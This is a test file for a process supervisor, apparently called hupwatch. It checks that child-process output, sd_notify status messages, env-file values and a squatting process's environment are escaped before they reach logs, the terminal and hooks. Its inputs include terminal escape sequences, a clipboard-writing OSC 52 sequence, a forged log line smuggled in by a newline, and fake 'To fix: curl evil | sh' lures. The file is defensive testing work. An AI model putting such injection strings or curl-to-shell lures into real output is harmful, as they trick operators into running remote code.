/** What others say reaches the log, the terminal and hooks as text: no escapes, no forged lines, and no hook is lost by it. */
import { describe, expect, test } from "bun:test";
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { cli, home } from "../harness/cli.ts";
import { spawnHupwatch, startHupwatch } from "../harness/hupwatch.ts";
import { LOG } from "../harness/log-lines.ts";
import { tempDir } from "../harness/temp-dir.ts";
import { until } from "../harness/until.ts";
import { PYTHON } from "../setup/places.ts";
import { ground, hasPeople, STRANGER, startAs } from "./people.ts";

// biome-ignore lint/suspicious/noControlCharactersInRegex: those are what is looked for
const ORDERS = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;

/** Generation 1 stands; the next ones are this Python. */
const thenPython = (script: string) => [
  "sh",
  "-c",
  `[ "$HUPWATCH_GENERATION" = 1 ] && exec sleep 1000; exec "$0" -c "$1"`,
  PYTHON,
  script,
];

test("F8: escapes and line breaks of an sd_notify STATUS", async () => {
  const script = `
import os, socket, time
a = os.environ["NOTIFY_SOCKET"]
s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
s.sendto(b"STATUS=\\x1b]0;pwned\\x07\\x1b[2J\\r<0>over", a.replace("@", "\\0"))
time.sleep(1000)`;
  const options = ["-k", "-w", "0", "--ready-timeout", "4s", "--ready", "notify"];
  const first = `import os, socket, time
socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"READY=1", os.environ["NOTIFY_SOCKET"].replace("@", "\\0"))
time.sleep(1000)`;
  const both = `import os\nexec(os.environ["FIRST" if os.environ["HUPWATCH_GENERATION"] == "1" else "LATER"])`;
  await using hupwatch = await startHupwatch([...options, "--", PYTHON, "-c", both], {
    env: { FIRST: first, LATER: script },
  });
  hupwatch.hup();
  await hupwatch.until(LOG.rolledBack);
  expect(hupwatch.log).toContain("(its status: \\x1b]0;pwned\\x07\\x1b[2J\\r<0>over)");
  expect(hupwatch.log).not.toMatch(ORDERS);
});

describe("what a failed release wrote", () => {
  const SCRIPT = `
import os, sys
os.write(2, b"a\\0b\\n" + ("€" * 1900 + "\\n").encode() * 57)
os.write(2, b"first\\x1b]52;c;eA==\\x07\\r\\xff\\nTo fix: curl evil | sh\\nthe cause\\n")
sys.exit(3)`;

  test("F9, F10: `reload` shows it as text, and the hook for it runs, with the end of it", async () => {
    using place = home();
    using dir = tempDir();
    const hook = `rolled-back=printf %s "$HUPWATCH_STDERR" > ${dir.path}/stderr; mv ${dir.path}/stderr ${dir.path}/told`;
    const options = ["-k", "-w", "0", "--name", "says", "--ready", "delay:1", "--hook", hook];
    await using hupwatch = await startHupwatch([...options, "--", ...thenPython(SCRIPT)], { env: place.env });
    const reload = await cli(["reload", "says"], place);
    expect(reload.exitCode).toBe(1);
    expect(reload.stderr).toContain("the cause");
    expect(reload.stderr).not.toMatch(ORDERS);
    expect(reload.stderr).not.toMatch(/^To fix/m);
    await until(() => existsSync(`${dir.path}/told`), { what: "the hook", context: () => hupwatch.log });
    const told = readFileSync(`${dir.path}/told`);
    expect(told.length).toBeLessThan(128 * 1024);
    expect(told.toString()).toEndWith("sh\nthe cause");
    expect(hupwatch.log).not.toContain("could not be run");
  });

  test("F10: a NUL in it", async () => {
    using dir = tempDir();
    const hook = `rolled-back=printf %s "$HUPWATCH_STDERR" > ${dir.path}/stderr; mv ${dir.path}/stderr ${dir.path}/told`;
    const options = ["-k", "-w", "0", "--ready", "delay:1", "--hook", hook];
    const script = `import os, sys; os.write(2, b"a\\0b\\n"); sys.exit(3)`;
    await using hupwatch = await startHupwatch([...options, "--", ...thenPython(script)]);
    hupwatch.hup();
    await until(() => existsSync(`${dir.path}/told`), { what: "the hook", context: () => hupwatch.log });
    expect(readFileSync(`${dir.path}/told`, "utf8")).toBe("a\\x00b");
  });
});

test("F26: a reason with a line break is one line of the log", async () => {
  using dir = tempDir();
  const forged = `2026-11-26T00:00:00.000Z hupwatch[1] generation 2 serves`;
  writeFileSync(`${dir.path}/env`, `PROMETHEUS_MULTIPROC_DIR="/proc/nope\n${forged}/{gen}"\n`);
  const options = ["-k", "-w", "0", "--ready", "delay:0", "--env-file", `${dir.path}/env`];
  await using hupwatch = spawnHupwatch([...options, "--", "sleep", "1000"]);
  expect(await hupwatch.exited).toBe(125);
  expect(hupwatch.log).toContain(`/proc/nope\\n${forged}`);
  expect(hupwatch.log.split("\n").filter((line) => line.startsWith("2026-11-26T00"))).toEqual([]);
});

test.skipIf(!hasPeople)("F24: the environment of the process that listens at the path", async () => {
  using place = ground();
  const socket = `${place.directory("run", STRANGER)}/app.sock`;
  const listen = `import socket, sys, time
s = socket.socket(socket.AF_UNIX); s.bind(sys.argv[1]); s.listen(8); print("up", end="", flush=True); time.sleep(1000)`;
  await using squatter = startAs(STRANGER, [PYTHON, "-c", listen, socket], {
    HUPWATCH_PID: "1",
    HUPWATCH_NAME: "x\x1b[2J\nTo fix: curl http://evil | sh #",
  });
  expect(await squatter.said()).toBe("up");
  await using hupwatch = spawnHupwatch(["-b", `unix:${socket}`, "--", "sleep", "1000"]);
  expect(await hupwatch.exited).toBe(125);
  expect(hupwatch.log).toContain(`process ${squatter.pid} listens on it\nTo fix: end that process`);
  expect(hupwatch.log).not.toMatch(ORDERS);
  expect(hupwatch.log).not.toContain("curl");
});
